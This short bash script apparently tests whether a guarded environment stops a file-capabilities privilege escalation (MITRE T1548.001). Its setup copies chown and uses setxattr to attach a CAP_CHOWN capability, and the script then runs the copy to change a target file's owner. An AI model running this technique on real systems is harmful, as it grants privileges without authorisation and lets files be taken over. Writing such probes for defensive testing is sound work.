#!/bin/bash
# tries: to use a program that carries capabilities in its file
# works: an extended attribute gives them at exec, with no setuid bit
# see: capabilities(7); MITRE ATT&CK T1548.001
# goal: change
# first: cp /usr/bin/chown "$GUARDED/../capable"; python3 -c 'import os, struct; os.setxattr(os.environ["GUARDED"] + "/../capable", "security.capability", struct.pack("<5I", 0x02000001, 1, 0, 0, 0))'
# undo: rm -f "$GUARDED/../capable"
"$GUARDED/../capable" alice "$TARGET"
